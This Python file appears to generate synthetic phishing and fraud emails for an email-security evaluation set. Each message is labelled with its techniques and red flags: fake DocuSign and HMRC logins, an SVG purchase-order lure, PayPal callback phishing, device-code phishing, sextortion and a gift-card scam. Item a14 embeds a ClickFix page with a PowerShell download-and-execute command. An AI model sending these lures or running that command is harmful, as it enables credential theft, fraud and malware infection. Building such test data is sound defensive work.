# -*- coding: utf-8 -*-
"""English attack messages 09-16."""
from lib.kit import *  # noqa
from lib import ids


def a09():
    link = "https://northgate-pm.esign-docview.com/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (
        ids.uuid4(ids.rng("a09a")), ids.uuid4(ids.rng("a09b")), ids.uuid4(ids.rng("a09c")))
    msg = ("Hi James,<br><br>Please review and sign the renewed maintenance agreement for the escalators and lifts at "
           "Arndale and Piccadilly Plaza (term 2027&ndash;2029). Legal have signed off on our side; we need your signature "
           "by Friday to keep the current rates.<br><br>Kind regards,<br>Sarah Collins<br>Facilities Manager, Northgate Property Management")
    html = D.docusign_html("Sarah Collins", "sarah.collins@northgate-pm.co.uk",
                           "Northgate_EG_Maintenance_Agreement_2027-2029.pdf", link, msg)
    t = """Sarah Collins sent you a document to review and sign.

REVIEW DOCUMENT: %s

Sarah Collins
sarah.collins@northgate-pm.co.uk

Hi James,

Please review and sign the renewed maintenance agreement for the escalators and lifts at Arndale and Piccadilly Plaza (term 2027-2029). Legal have signed off on our side; we need your signature by Friday to keep the current rates.

Kind regards,
Sarah Collins
Facilities Manager, Northgate Property Management

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.""" % link
    return Msg("attack", 9, "en", "docusign-lookalike-compromised-wordpress",
               frm=("Sarah Collins via Docusign", "dse@eumail.docusign-notify.net"), to=S("uk_mgr"),
               reply_to=("Sarah Collins", "sarah.collins@northgate-pm.co.uk"),
               mailfrom="oakfield@lon-shared14.webhostlondon.co.uk",
               subject="Complete with Docusign: Northgate_EG_Maintenance_Agreement_2027-2029.pdf",
               when="2026-10-22 15:37:04",
               infra=I.cpanel("lon-shared14.webhostlondon.co.uk", "185.151.30.142", mailer="phpmailer", via="local",
                              zone="UK", auth_user="oakfield",
                              php_script="oakfieldbakery.co.uk/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php for 45.137.21.9",
                              label="compromised WordPress site on shared cPanel host (PHPMailer)"),
               body=alt(t, html, "utf-8", "quoted-printable"),
               techniques=["DocuSign brand impersonation", "credential phishing", "compromised small-business web host (PHP mailer)"],
               what="DocuSign-style 'please sign' for a customer's maintenance agreement, link to a fake signing page",
               why="DocuSign mails come from docusign.net; this comes from docusign-notify.net via a hacked WordPress plugin on a shared host (X-PHP-Script); REVIEW button goes to northgate-pm.esign-docview.com, not docusign.net; Reply-To set to the real customer to look plausible.",
               pair=9)


def a10():
    hist = """________________________________
From: Sarah Collins <sarah.collins@northgate-pm.co.uk>
Sent: 22 October 2026 11:05
To: James Whitfield <james.whitfield@example.com>
Subject: RE: Q-UK-2026-0419 - Arndale E3 handrail replacement

Hi James,

Thanks for the revised quote. I've put it through for approval and will come back to you with a PO number as soon as finance have raised it.

Sarah

________________________________
From: James Whitfield <james.whitfield@example.com>
Sent: 20 October 2026 16:42
To: Sarah Collins <sarah.collins@northgate-pm.co.uk>
Subject: Q-UK-2026-0419 - Arndale E3 handrail replacement

Dear Sarah,

Please find attached our revised quotation Q-UK-2026-0419 for the handrail replacement on escalator E3 (Arndale, upper mall), including out-of-hours working. Lead time for the handrails is 5 weeks from order.

Best regards,
James"""
    t = """Hi James,

Apologies for the delay on this one. The PO has now been approved, please find it attached.

Accounts need the PO countersigned through our supplier portal before they can release the 30% deposit - could you do that today so it goes into this week's payment run?

Thanks,
Sarah

Sarah Collins
Facilities Manager
Northgate Property Management Ltd
T: 0161 496 0734

""" + hist
    link = "https://po-approval-npm.sarahc-docs.workers.dev/?id=NPM-88412&u=james.whitfield%40example.com"
    svg = D.svg_lure(["Purchase Order NPM-88412", "Supplier: Example Group UK Ltd",
                      "Arndale E3 handrail replacement - GBP 38,640.00 + VAT",
                      "Status: awaiting supplier countersignature"],
                     link, "Open & countersign PO", brand="Northgate Property Management", color="#00695c",
                     foot="Secured by Microsoft 365 - Northgate supplier portal")
    body = Multi("mixed", [alt(t, outlook_html(t, "us-ascii", "EN-GB"), "us-ascii", "quoted-printable"),
                           Attach(svg, "image/svg+xml", "PO_NPM-88412.svg")])
    return Msg("attack", 10, "en", "thread-hijack-customer-svg-attachment",
               frm=("Sarah Collins", "sarah.collins@northgate-pm.co.uk"), to=S("uk_mgr"),
               subject="RE: Q-UK-2026-0419 - Arndale E3 handrail replacement", when="2026-11-04 08:12:26",
               irt="<DB9PR03MB7411A2B3C4D5E6F7A8B9C0D1E2F3A@DB9PR03MB7411.eurprd03.prod.outlook.com>",
               infra=I.exo(lang="en-GB", accept="en-GB, en-US", pre="DB9", hcs=("us-ascii", "Q"),
                           label="genuine Northgate Microsoft 365 tenant (compromised mailbox)"),
               body=body,
               techniques=["thread hijack from compromised customer mailbox", "SVG attachment with embedded link", "abused free hosting (Cloudflare Workers)"],
               what="Reply in a real quote thread from the customer's real mailbox: 'PO approved, countersign via portal', PO attached as SVG",
               why="A purchase order delivered as an SVG image whose only function is a link to a workers.dev page with the victim's address; 'supplier portal' login to release a deposit; the mailbox itself is compromised, so sender checks pass.",
               pair=10)


def a11():
    link = "https://www.tax-service-gov.uk/business-account/vat/penalty-review?vrn=284913628"
    t = """HM Revenue & Customs

Making Tax Digital for VAT

VAT registration number: 284 9136 28
Period: 01 Jul 2026 to 30 Sep 2026

Dear Customer,

Your VAT return for the above period, submitted through your accounting software, could not be matched to your Government Gateway record. As a result, the return has been treated as not received and a late submission penalty point has been added to your account.

You can ask us to review this decision within 7 days. To avoid further penalty points and interest on any unpaid VAT, sign in to your business tax account and confirm your return details:

%s

If you have already done this, you do not need to do anything.

Yours faithfully,
VAT Compliance Team
HM Revenue and Customs

This is an automated message. Please do not reply to this email.""" % link
    html = simple_html(t.replace(link, "[[L]]"), font="Arial, sans-serif", autolink=False).replace(
        "[[L]]", '<a href="%s" style="background:#00703c;color:#fff;padding:8px 16px;text-decoration:none;font-weight:bold">Sign in to your business tax account</a>' % link)
    return Msg("attack", 11, "en", "hmrc-mtd-vat-penalty-phish",
               frm=("HM Revenue & Customs", "noreply@hmrc-vat-notices.uk"), to=S("uk_acc"),
               subject="VAT return 07/26 not matched - late submission penalty point added",
               when="2026-11-09 10:48:33", infra=I.mailgun("mg.hmrc-vat-notices.uk", zone="UK"),
               body=alt(t, html, "us-ascii", "7bit"),
               techniques=["credential phishing: national tax office (HMRC)", "abused bulk ESP (Mailgun)", "look-alike domain"],
               what="Fake HMRC Making Tax Digital notice about a rejected VAT return and penalty point, with sign-in link",
               why="HMRC uses gov.uk; this comes from hmrc-vat-notices.uk via Mailgun and links to tax-service-gov.uk (look-alike of tax.service.gov.uk) with the company's real VRN; penalty and 7-day deadline pressure.",
               pair=11)


def a12():
    inv = "INV2-7QKM-4D8N-XH2P-9TFA"
    link = "https://www.paypal.com/invoice/p/#%s" % inv.replace("-", "")
    t = """Microsoft Billing Support sent you an invoice

Amount due: GBP 749.99
Due on receipt

Invoice number: 0047-2026-UK

Note from seller:
Your Microsoft 365 Business Premium annual subscription (25 licences) has been renewed automatically and will be charged to the card on file. If you did not authorise this renewal, call our billing desk on +44 20 3868 4172 within 24 hours to cancel and receive a full refund. Do not pay this invoice if you wish to cancel.

View and pay invoice:
%s

Invoice details
Microsoft 365 Business Premium - 12 months x 25 licences   GBP 749.99
Subtotal   GBP 749.99
Total      GBP 749.99

PayPal is committed to protecting you against fraud. Learn more about invoice safety at paypal.com/uk/security.

Copyright (c) 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.a r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.""" % link
    html = simple_html(t, font="Helvetica, Arial, sans-serif", charset="utf-8")
    return Msg("attack", 12, "en", "callback-phishing-paypal-invoice",
               frm=("Microsoft Billing Support via PayPal", "service@paypal.co.uk"), to=S("uk_sales"),
               mailfrom="service@paypal.co.uk",
               subject="Invoice from Microsoft Billing Support (0047-2026-UK)",
               when="2026-10-28 16:20:11",
               infra=I.service_postfix("mx0.slc.paypal.com", "173.0.84.225", "slc.paypal.com",
                                       msgid=lambda r, c: "<%s.%s.JavaMail.httpd@ccg01mail%02d>" % (ids.digits(r, 13), ids.digits(r, 5), r.randint(1, 9)),
                                       headers=[("X-Email-Type-Id", "IN101"), ("X-XPT-XSL-Name", "invoicing/invoice_created")],
                                       zone="PT", label="genuine PayPal invoicing infrastructure (abused service)"),
               body=alt(t, html, "utf-8", "quoted-printable"),
               techniques=["callback phishing (TOAD)", "abused genuine service (PayPal invoicing)"],
               what="Genuine PayPal invoice created by a fraudster: 'Microsoft renewal GBP 749.99 - call to cancel'",
               why="Sent through PayPal's real infrastructure, so authentication passes; the seller 'Microsoft Billing Support' is not Microsoft; the payload is the phone number in the seller note (call-back to a fake support desk that installs remote-access tools or takes card data).",
               pair=12)


def a13():
    code = "HQ7XK4MPR"
    t = """Hi James,

Thanks for your time on the phone earlier. As mentioned, our IT team has moved external meetings onto the new secure Teams joining flow, so the usual link won't work for guests any more.

To join the call on the E3 handrail programme and the 2027 maintenance renewal at 11:30:

1. Go to https://microsoft.com/devicelogin
2. Enter the meeting code: %s
3. Sign in with your normal work account when prompted.

The code is only valid for 15 minutes, so best to join straight away - we'll wait for you in the lobby.

Kind regards,
Daniel Hughes
Procurement Lead
Northgate Property Management Ltd""" % code
    html = gmail_html(t)
    return Msg("attack", 13, "en", "device-code-phishing-teams",
               frm=("Daniel Hughes", "daniel.hughes@northgatepm.co.uk"), to=S("uk_mgr"),
               subject="Teams: E3 handrail programme & 2027 maintenance renewal (11:30)",
               when="2026-11-11 11:16:52", infra=I.zoho(zone="UK", label="look-alike domain on Zoho Mail EU"),
               body=alt(t, html, "UTF-8", "quoted-printable"),
               techniques=["device-code phishing (OAuth device authorisation grant)", "Teams meeting pretext", "look-alike domain", "abused free mail host (Zoho)"],
               what="'Customer' asks to join a Teams call by entering a code at microsoft.com/devicelogin",
               why="northgatepm.co.uk is a look-alike of the customer's northgate-pm.co.uk; Teams never uses device codes to join meetings - the code was generated by the attacker, and entering it grants the attacker tokens for the victim's M365 account; 15-minute urgency matches device-code expiry.",
               pair=13)


def a14():
    cmd = 'powershell -w h -nop -c "iex(iwr http://198.51.100.23/cf/v.txt -UseBasicParsing)"  # I am not a robot - Cloudflare Ray ID 8f2c41d7e9'
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Just a moment...</title>
<meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{font-family:-apple-system,system-ui,"Segoe UI",Roboto,Arial,sans-serif;background:#fff;color:#313131;margin:0}
.main{max-width:620px;margin:90px auto;padding:0 20px}.h{font-size:30px;font-weight:500}.box{border:1px solid #e0e0e0;background:#fafafa;padding:22px;margin:26px 0}
ol{line-height:30px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}
textarea{width:100%%;height:64px;font-family:Consolas,monospace;font-size:12px}.f{font-size:12px;color:#6b6b6b;margin-top:60px}</style></head>
<body><div class="main">
<div class="h">documents.tfgm-tenders.co.uk</div>
<p>Verifying you are human. This may take a few seconds.</p>
<div class="box">
<b>Verification failed - please complete the following steps</b>
<ol>
<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Copy the verification code below and paste it with <kbd>CTRL</kbd> + <kbd>V</kbd></li>
<li>Press <kbd>Enter</kbd> to confirm</li>
</ol>
<textarea readonly>%s</textarea>
</div>
<p>documents.tfgm-tenders.co.uk needs to review the security of your connection before proceeding.</p>
<div class="f">Ray ID: 8f2c41d7e9 &middot; Performance &amp; security by Cloudflare</div>
</div></body></html>
""" % html_escape(cmd)
    t = """Good afternoon,

Following your expression of interest, please find attached the tender documentation for:

ITT ref. TfGM-2026-117 - Refurbishment of 6 escalators, Piccadilly interchange

The pack contains the specification, drawings and the pricing schedule. Clarification questions by 27 November 2026, tender return by 11 December 2026 (12:00).

The documents are hosted on our secure tender portal; open the attached file to access them.

Kind regards

Mark Dawson
Associate Director
Dawson Kerr Architects
0161 832 5547"""
    body = Multi("mixed", [alt(t, outlook_html(t, "us-ascii", "EN-GB"), "us-ascii", "7bit"),
                           Attach(page.encode("utf-8"), "text/html", "ITT_TfGM-2026-117_Documents.html", text_charset="utf-8")])
    return Msg("attack", 14, "en", "clickfix-tender-html-attachment",
               frm=("Mark Dawson", "m.dawson@dawsonkerr-architects.co.uk"), to=S("uk_sales"),
               subject="ITT TfGM-2026-117 - escalator refurbishment Piccadilly - tender documents",
               when="2026-11-17 14:03:45",
               infra=I.cpanel("uk-srv22.hostcentral.co.uk", "77.72.1.41", client_ip="102.89.33.17", mailer="outlook",
                              zone="UK", lang="en-GB", label="compromised architects' mailbox on cPanel host (Exim), Outlook"),
               body=body,
               techniques=["ClickFix (fake CAPTCHA, Win+R paste)", "HTML attachment", "compromised third-party mailbox", "trade-specific tender lure"],
               what="Tender invitation for escalator refurbishment; attached HTML is a fake Cloudflare check telling the user to paste a PowerShell command into Win+R",
               why="Unknown architects' mailbox (logged in from a Nigerian IP) sends a tender that only opens via an HTML file; the page instructs the user to run 'powershell ... iex(iwr http://...)' - a ClickFix download-and-execute; real tenders use procurement portals.",
               pair=None)


def a15():
    btc = N.btc_bech32("example-group-eval-extortion-2026")
    t = """Hello,

I am going to be brief. I have had access to your devices for several months. The access was obtained through a driver update you installed, and since then I have been able to see your screen, your camera and your browsing.

I have copies of your e-mails, your contacts and recordings made with your webcam while you were visiting certain websites. I think you understand what I mean. With one click I can send these recordings to every address in your contact list, including your colleagues at work.

I propose a simple deal. Transfer 1450 USD in Bitcoin to the following address and everything will be deleted permanently:

%s

If you do not know how to buy Bitcoin, search "how to buy bitcoin" - it takes a few minutes. You have 48 hours from the moment you open this e-mail. I will know when you have read it.

Do not reply to this e-mail, it was sent from your own account. Do not go to the police or tell anyone - if I notice, the recordings are sent immediately.

Good luck.""" % btc
    return Msg("attack", 15, "en", "sextortion-bitcoin-spoofed-self",
               frm=("Priya Sharma", "priya.sharma@example.com"), to=S("uk_acc"),
               subject="Your account has been compromised - read this carefully",
               when="2026-12-03 03:41:27",
               infra=I.direct_bot("[113.161.74.20]", "113.161.74.20", rdns="static.vnpt.vn", zone="UTC"),
               body=Text(t, "plain", "utf-8", "base64"),
               techniques=["extortion (sextortion) with Bitcoin address", "spoofed own address (From = recipient)", "botnet direct-to-MX"],
               what="Sextortion: claims webcam recordings, demands USD 1,450 in Bitcoin within 48 hours",
               why="From spoofs the recipient's own address but comes directly from a Vietnamese ISP host that is not Example Group's mail system (no internal relay, no TLS); generic extortion text with a Bitcoin (bech32) address and deadline; base64 body to hide keywords.",
               pair=None)


def a16():
    t = """Hi Oliver,

Are you at your desk? I need you to sort something out for me discreetly this morning.

I'm heading into back-to-back client meetings and want to thank a few of our key facilities managers before Christmas with Amazon gift cards - 6 x GBP 200. Can you pick them up (Tesco or WHSmith have them, or online), scratch off the back and send me clear photos of the codes here?

I'll get Priya to reimburse you this afternoon. Please keep it between us for now, it's meant to be a surprise.

Thanks,
James

Sent from my iPhone"""
    return Msg("attack", 16, "en", "gift-card-scam-manager-gmail",
               frm=("James Whitfield", "jwhitfield.office@gmail.com"), to=S("uk_sales"),
               subject="Quick favour", when="2026-12-08 09:02:31", infra=I.gmail(zone="UK"),
               body=alt(t, gmail_html(t), "UTF-8", "quoted-printable"),
               techniques=["gift card scam", "manager impersonation from free mail (Gmail)"],
               what="'Office manager' asks a colleague to buy GBP 1,200 in Amazon gift cards and send photos of the codes",
               why="Manager's name on an unknown Gmail address; gift cards with codes sent by photo; secrecy ('keep it between us'); reimbursement promise. Classic gift-card BEC.",
               pair=16)


def messages():
    return [a09(), a10(), a11(), a12(), a13(), a14(), a15(), a16()]
